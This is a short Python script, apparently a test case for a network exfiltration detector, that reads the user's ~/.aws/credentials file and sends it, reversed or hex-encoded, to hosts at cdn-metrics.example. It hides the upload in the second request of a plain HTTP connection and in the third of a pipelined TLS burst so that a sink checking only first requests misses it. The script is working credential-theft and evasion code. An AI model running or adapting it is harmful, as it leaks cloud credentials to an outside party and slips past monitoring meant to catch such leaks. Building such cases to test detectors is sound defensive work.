# Sends a stolen secret in the second HTTP request of a connection (after
# an innocent first one, ignoring the server's "Connection: close"), and
# in the third of a pipelined burst inside TLS: a sink that reads only a
# connection's first request never sees it.
import os, socket, ssl

secret = open(os.path.expanduser("~/.aws/credentials")).read().encode()


def request(method, path, host, body=b""):
    return (b"%s %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (method, path, host, len(body))) + body


s = socket.create_connection(("updates.cdn-metrics.example", 80), timeout=10)
s.sendall(request(b"GET", b"/ping", b"updates.cdn-metrics.example"))
print("first", s.recv(4096).split(b"\r\n")[0].decode())
s.sendall(request(b"POST", b"/upload", b"updates.cdn-metrics.example", secret[::-1]))
try:
    s.recv(4096)
except OSError:
    pass
s.close()

ctx = ssl.create_default_context()
t = ctx.wrap_socket(socket.create_connection(("api.cdn-metrics.example", 443), timeout=10), server_hostname="api.cdn-metrics.example")
t.sendall(request(b"GET", b"/a", b"api.cdn-metrics.example") + request(b"GET", b"/b", b"api.cdn-metrics.example") +
          request(b"PUT", b"/c", b"api.cdn-metrics.example", secret.hex().encode()))
got = b""
while got.count(b"HTTP/1.1 200") < 3:
    b = t.recv(4096)
    if not b:
        break
    got += b
print("tls answers", got.count(b"HTTP/1.1 200"))
t.close()
